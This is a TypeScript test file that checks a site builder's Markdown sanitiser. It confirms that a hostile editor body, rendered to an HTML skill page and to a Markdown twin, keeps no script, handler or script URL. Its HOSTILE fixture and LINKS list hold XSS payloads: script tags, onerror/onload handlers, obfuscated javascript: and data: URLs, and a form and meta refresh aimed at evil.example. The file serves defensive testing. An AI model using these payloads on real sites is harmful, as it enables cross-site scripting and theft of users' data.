/** An editor's hostile Markdown body, through the real renderer, the real skill page and its real
 * Markdown twin: nothing that runs, loads or navigates to script survives in either, and the two
 * keep and drop the same things (one policy, site/render/body-policy.ts). */
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { toHtml } from 'hast-util-to-html';
import { fromHtml } from 'hast-util-from-html';
import type { Element, Root } from 'hast';
import { unified } from 'unified';
import remarkParse from 'remark-parse';
import remarkGfm from 'remark-gfm';
import type { Nodes as MdastNodes } from 'mdast';
import { build } from '../../build/index.ts';
import { renderBody } from '../../site/render/markdown-body.ts';
import { BODY_POLICY, BODY_SCHEMA } from '../../site/render/body-policy.ts';
import { skillHtml } from '../../site/pages/skill.ts';
import { skillTwin } from '../../site/pages/skill.ts';
import { twinDocument } from '../../site/markdown/document.ts';
import { siteFrame } from '../../build/emit/assets.ts';
import { elements, splitTwin } from './dist.ts';
import type { CatalogueModel } from '../../site/model.ts';

const HOSTILE = `
# Totally normal description

<script>alert('block')</script>

Inline <script>alert('inline')</script> and <img src=x onerror="alert('img')"> and <svg onload="alert('svg')"></svg>.

<iframe src="https://evil.example/frame"></iframe>
<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/e">
<style>body { display: none }</style>
<form action="https://evil.example/steal"><input name="card"></form>
<a href="https://example.com" onclick="alert('click')">raw link</a>
<div style="background:url(javascript:alert('css'))">styled</div>
<meta http-equiv="refresh" content="0;url=https://evil.example">
<base href="https://evil.example/">

[js link](javascript:alert('link')) [mixed case](JaVaScRiPt:alert('case')) [spaced]( javascript:alert('space'))
[entity](jav&#x09;ascript:alert('entity')) [vb](vbscript:msgbox) <javascript:alert('autolink')>
[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
![data image](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)
![remote image](https://evil.example/track.png)
[reference link][evil]

[evil]: javascript:alert('reference')

A fine [link](https://example.com/ok) and \`<script>in code</script>\`.

\`\`\`html
<script>alert('fenced')</script>
\`\`\`
`;

const DANGEROUS_ELEMENTS = ['script', 'iframe', 'object', 'embed', 'style', 'form', 'input', 'svg', 'math', 'meta', 'base', 'link', 'frame', 'frameset'];

function problems(tree: Root | Element, allowed: readonly string[] = []): string[] {
  const found: string[] = [];
  for (const el of elements(tree)) {
    if (DANGEROUS_ELEMENTS.includes(el.tagName) && !allowed.includes(el.tagName)) found.push(`<${el.tagName}>`);
    for (const [name, value] of Object.entries(el.properties)) {
      if (/^on/i.test(name)) found.push(`${el.tagName} ${name}`);
      if (name === 'style') found.push(`${el.tagName} style`);
      const text = String(Array.isArray(value) ? value.join(' ') : value).replace(/[\u0000-\u0020]/g, '').toLowerCase();
      if (['href', 'src', 'action', 'formAction', 'data', 'srcSet', 'poster'].includes(name) && /^(javascript|vbscript|data):/.test(text)) {
        found.push(`${el.tagName} ${name}=${text}`);
      }
      if (name === 'src' && /^(https?:)?\/\//.test(text)) found.push(`${el.tagName} loads ${text}`);
    }
  }
  return found;
}

describe('sanitising an editor’s body', () => {
  it('leaves nothing that runs, loads or escapes in the rendered body', () => {
    // The body's HTML as a browser reads it.
    const { html } = renderBody(HOSTILE);
    expect(problems(fromHtml(html, { fragment: true }))).toEqual([]);
    // Script URLs may survive as visible text (an autolink shown as words), never as an attribute.
    expect(html).not.toMatch(/<script|<iframe|<svg|<style|\son[a-z]+=|=\s*"?\s*(javascript|vbscript|data):/i);
  });

  it('keeps the harmless content: text, safe links, code shown as code', () => {
    const { html } = renderBody(HOSTILE);
    expect(html).toContain('<a href="https://example.com/ok">link</a>');
    expect(html).toContain('<code>&lt;script&gt;in code&lt;/script&gt;</code>');
    expect(html).toContain('js link');
    expect(html).toContain('data image');
  });

  describe('on a real skill page', () => {
    let out: string;
    let model: CatalogueModel;
    beforeAll(async () => {
      out = mkdtempSync(join(tmpdir(), 'sanitise-'));
      ({ model } = await build({ contentDir: join(import.meta.dirname, '../fixtures/content-small'), outDir: out, constantsFile: null, env: { SOURCE_DATE_EPOCH: '1767225600' } }));
    });
    afterAll(() => rmSync(out, { recursive: true, force: true }));

    it('the page around a hostile body has no script, handler or script URL of the body’s', () => {
      const html = skillHtml(siteFrame(model), { skill: model.skills[0].skill, body: renderBody(HOSTILE, { topHeading: 3 }), bundles: [] });
      const tree = fromHtml(html);
      // The body's section holds nothing that runs, loads or navigates to script…
      const about = elements(tree).find((el) => el.tagName === 'section' && String(el.properties.ariaLabelledBy) === 'about');
      expect(about).toBeDefined();
      expect(problems(about!)).toEqual([]);
      // …and holds the body as elements of the page, its top heading fitted under the section's h2.
      expect(elements(about!).find((el) => el.tagName === 'h3')?.children).toEqual([{ type: 'text', value: 'Totally normal description', position: expect.anything() }]);
      expect(toHtml(about!)).not.toMatch(/<script|<iframe|<svg|<style|\son[a-z]+=|=\s*"?\s*(javascript|vbscript|data):|http-equiv/i);
      // …and the page's own frame runs only its own files and structured data, loads nothing from
      // elsewhere and has no <base>.
      for (const el of elements(tree)) {
        if (el.tagName === 'script') expect(el.properties.src === undefined ? el.properties.type : String(el.properties.src)).toMatch(/^(application\/ld\+json|\/assets\/)/);
        expect(el.tagName).not.toBe('base');
        for (const name of ['href', 'src', 'action']) expect(String(el.properties[name] ?? '')).not.toContain('evil');
      }
    });
  });
});

const markdown = unified().use(remarkParse).use(remarkGfm);
const mdNodes = (node: MdastNodes): MdastNodes[] => [node, ...('children' in node ? node.children.flatMap(mdNodes) : [])];
/** Every link and image address a Markdown document makes, as a reader of it would follow them. */
function addressesIn(text: string): { links: string[]; images: string[]; html: string[] } {
  const nodes = mdNodes(markdown.runSync(markdown.parse(text)) as MdastNodes);
  const definitions = new Map(nodes.flatMap((node) => (node.type === 'definition' ? [[node.identifier, node.url] as const] : [])));
  const url = (node: MdastNodes) => ('url' in node ? node.url : 'identifier' in node ? definitions.get(node.identifier) : undefined);
  return {
    links: nodes.filter((node) => node.type === 'link' || (node.type === 'linkReference' && definitions.has(node.identifier))).map((node) => url(node)!),
    images: nodes.filter((node) => node.type === 'image' || (node.type === 'imageReference' && definitions.has(node.identifier))).map((node) => url(node)!),
    html: nodes.filter((node) => node.type === 'html').map((node) => (node as { value: string }).value),
  };
}

describe('the Markdown twin of a hostile body', () => {
  const body = renderBody(HOSTILE, { topHeading: 3 });
  let twin: string;
  beforeAll(async () => {
    const out = mkdtempSync(join(tmpdir(), 'sanitise-twin-'));
    try {
      const { model } = await build({ contentDir: join(import.meta.dirname, '../fixtures/content-small'), outDir: out, constantsFile: null, env: { SOURCE_DATE_EPOCH: '1767225600' } });
      twin = splitTwin(skillTwin(siteFrame(model), { skill: model.skills[0].skill, body, bundles: [] })).markdown;
    } finally {
      rmSync(out, { recursive: true, force: true });
    }
  });

  it('has no raw HTML: no <script>, <iframe>, <style>, handlers, comments', () => {
    const found = addressesIn(twin);
    expect(found.html).toEqual([]);
    const outsideCode = twin.replace(/^```[\s\S]*?^```$/gm, '').replace(/`[^`\n]*`/g, '');
    expect(outsideCode).not.toMatch(/<(script|iframe|object|embed|style|form|input|svg|meta|base|img|div|a)\b|\son[a-z]+=/i);
  });

  it('links only to web and mail addresses or within the site, and shows images only from the site', () => {
    const { links, images } = addressesIn(twin);
    for (const url of links) expect(url).toMatch(/^(https?:|mailto:|[^:]*$)/);
    expect(links.filter((url) => /^[a-z][a-z0-9+.-]*:/i.test(url) && !/^(https?|mailto):/.test(url))).toEqual([]);
    expect(images).toEqual([]);
    expect(twin).not.toMatch(/\]\(\s*<?\s*(javascript|vbscript|data):/i);
    expect(twin).not.toMatch(/javascript:alert\('(link|case|space|reference|autolink)'\)/i);
  });

  it('keeps what the page keeps: the same link targets, the text of refused links, code as code', () => {
    const bodyPart = twin.slice(twin.indexOf('## About this skill'));
    const pageLinks = elements(fromHtml(body.html, { fragment: true })).filter((el) => el.tagName === 'a' && !String(el.properties.href).startsWith('#')).map((el) => String(el.properties.href));
    expect(addressesIn(bodyPart).links.filter((url) => !url.startsWith('#'))).toEqual(pageLinks);
    expect(pageLinks).toContain('https://example.com/ok');
    for (const text of ['js link', 'mixed case', 'data image', 'remote image', 'reference link', 'Totally normal description']) expect(twin).toContain(text);
    expect(twin).toContain("```html\n<script>alert('fenced')</script>\n```");
  });

  it('fits the body’s headings under the twin’s own “About this skill”, as the page does', () => {
    expect(twin).toMatch(/^## About this skill\n\n### Totally normal description$/m);
  });
});

describe('one policy for page and twin', () => {
  it('makes the sanitiser’s schema from the policy’s protocols', () => {
    expect(BODY_SCHEMA.protocols?.href).toEqual([...BODY_POLICY.linkProtocols]);
    expect(BODY_SCHEMA.protocols?.src).toEqual([...BODY_POLICY.imageProtocols]);
  });

  // Addresses whose fate is easy to get wrong: schemes in odd case, hidden by entities or
  // whitespace, relative ones with a colon later on, protocol-relative images.
  const LINKS = [
    'https://example.com/a', 'http://example.com', 'mailto:someone@example.com', 'HTTPS://example.com/upper', 'irc://irc.example/chan',
    'xmpp:someone@example.com', 'ftp://example.com/file', 'javascript:alert(1)', 'JaVaScRiPt:alert(1)', 'data:text/html,x', 'vbscript:x',
    'jav&#x09;ascript:alert(1)', '&#106;avascript:alert(1)', '/skills/alpha', 'relative/page', '#part', '?q=a:b', 'a/b:c', 'tel:+123',
  ];
  const IMAGES = ['/assets/icon.svg', 'icon.svg', 'https://example.com/i.png', '//example.com/i.png', '/\\example.com/i.png', 'data:image/png;base64,AAAA', 'javascript:x'];

  it.each(LINKS)('treats the link %s alike on the page and in the twin', (url) => {
    const body = renderBody(`[text](${url.includes(' ') ? `<${url}>` : url}) and <${url}>`);
    const onPage = elements(fromHtml(body.html, { fragment: true })).filter((el) => el.tagName === 'a').map((el) => String(el.properties.href));
    const inTwin = addressesIn(twinBodyOf(body)).links;
    expect(inTwin.map((href) => encodeURI(decodeURI(href)))).toEqual(onPage.map((href) => encodeURI(decodeURI(href))));
  });

  it.each(IMAGES)('treats the image %s alike on the page and in the twin', (url) => {
    const body = renderBody(`![alt](${url})`);
    const onPage = elements(fromHtml(body.html, { fragment: true })).filter((el) => el.tagName === 'img').map((el) => String(el.properties.src));
    const inTwin = addressesIn(twinBodyOf(body)).images;
    expect(inTwin.length).toBe(onPage.length);
    expect(onPage.length).toBe(/^(\/[^/\\]|[a-z]+\.svg)/.test(url) ? 1 : 0);
  });
});

/** The body part of a twin, serialised the way twins serialise it. */
function twinBodyOf(body: ReturnType<typeof renderBody>): string {
  return splitTwin(twinDocument({ title: 'T', description: 'D', url: 'https://example.com/t', type: 'skill', site: 'https://example.com' }, [], body)).markdown;
}

